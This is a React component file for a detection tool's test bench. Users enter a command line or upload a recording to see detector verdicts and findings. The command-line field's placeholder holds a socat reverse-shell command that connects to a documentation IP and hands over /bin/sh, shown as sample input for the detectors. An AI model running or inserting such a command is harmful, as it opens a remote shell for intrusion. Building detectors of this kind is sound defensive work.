import { useState, type FormEvent } from "react";
import { Button, Form, FormGroup, HelperText, HelperTextItem, Spinner, TextArea, Title } from "@patternfly/react-core";
import { useMutation } from "@tanstack/react-query";
import { useTranslation } from "react-i18next";
import { replay, tryCommandLine } from "../api/detectors";
import { CommandPanel } from "../parts/command_panel";
import { Failure } from "../parts/failure";
import { Inert } from "../parts/inert";
import { SeverityMark } from "../parts/severity";
import { curl } from "../text/curl";
import { bytes } from "../text/numbers";
import { command } from "../text/shell";
import { Verdicts } from "./verdicts";

function CommandLineBench() {
  const { t } = useTranslation();
  const [written, setWritten] = useState("");
  const asked = useMutation({ mutationFn: tryCommandLine });
  const submit = (event: FormEvent) => {
    event.preventDefault();
    asked.mutate(written.trim());
  };
  return (
    <section>
      <Title headingLevel="h2">{t("detectors.tryTitle")}</Title>
      <Form onSubmit={submit}>
        <FormGroup label={t("detectors.commandLine")} fieldId="command-line">
          <TextArea
            id="command-line"
            resizeOrientation="vertical"
            rows={3}
            spellCheck={false}
            placeholder="socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty"
            value={written}
            onChange={(_, value) => setWritten(value)}
          />
          <HelperText>
            <HelperTextItem>{t("detectors.commandLineHelp")}</HelperTextItem>
          </HelperText>
        </FormGroup>
        <div>
          <Button type="submit" isDisabled={written.trim() === "" || asked.isPending} isLoading={asked.isPending}>
            {t("detectors.try")}
          </Button>
        </div>
      </Form>
      <div role="status">
        <Failure error={asked.error} />
        {asked.data !== undefined && <Verdicts verdicts={asked.data} />}
      </div>
      {written.trim() !== "" && (
        <CommandPanel commands={[{ by: "API", text: curl("POST", "/v2/detectors:try", { commandLine: written.trim() }) }]} />
      )}
    </section>
  );
}

function RecordingBench() {
  const { t } = useTranslation();
  const [file, setFile] = useState<File>();
  const asked = useMutation({ mutationFn: replay });
  const found = asked.data?.findings ?? [];
  return (
    <section>
      <Title headingLevel="h2">{t("detectors.replayTitle")}</Title>
      <Form
        onSubmit={(event) => {
          event.preventDefault();
          if (file !== undefined) {
            asked.mutate(file);
          }
        }}
      >
        <FormGroup label={t("detectors.recording")} fieldId="recording">
          <input id="recording" type="file" onChange={(event) => setFile(event.target.files?.[0])} />
          <HelperText>
            <HelperTextItem>{t("detectors.recordingHelp")}</HelperTextItem>
          </HelperText>
        </FormGroup>
        <div>
          <Button type="submit" isDisabled={file === undefined || asked.isPending} isLoading={asked.isPending}>
            {t("detectors.replay")}
          </Button>{" "}
          {file !== undefined && (
            <>
              <Inert text={file.name} limit={120} /> ({bytes(file.size)})
            </>
          )}
        </div>
      </Form>
      <div role="status">
        {asked.isPending && <Spinner size="md" aria-label={t("app.loading")} />}
        <Failure error={asked.error} />
        {asked.data !== undefined && (
          <>
            <p>{t("detectors.replayed", { records: asked.data.records ?? t("parts.notKnown"), count: found.length })}</p>
            {Number(asked.data.findingsLeftOut ?? 0) > 0 && (
              <p>{t("detectors.leftOut", { count: Number(asked.data.findingsLeftOut) })}</p>
            )}
            <ul className="pieces">
              {found.map(({ finding }, index) => (
                <li key={index}>
                  <SeverityMark severity={finding.severity} /> <Inert text={finding.category ?? ""} />
                  <br />
                  <Inert text={finding.description ?? ""} limit={400} />
                </li>
              ))}
            </ul>
            <Verdicts verdicts={asked.data.verdicts ?? []} />
          </>
        )}
      </div>
      {file !== undefined && <CommandPanel commands={[{ by: "vedette", text: command("vedette", "replay", `./${file.name}`) }]} />}
    </section>
  );
}

/** What detectors would say, without an attack. */
export function Bench() {
  return (
    <div className="bench">
      <CommandLineBench />
      <RecordingBench />
    </div>
  );
}
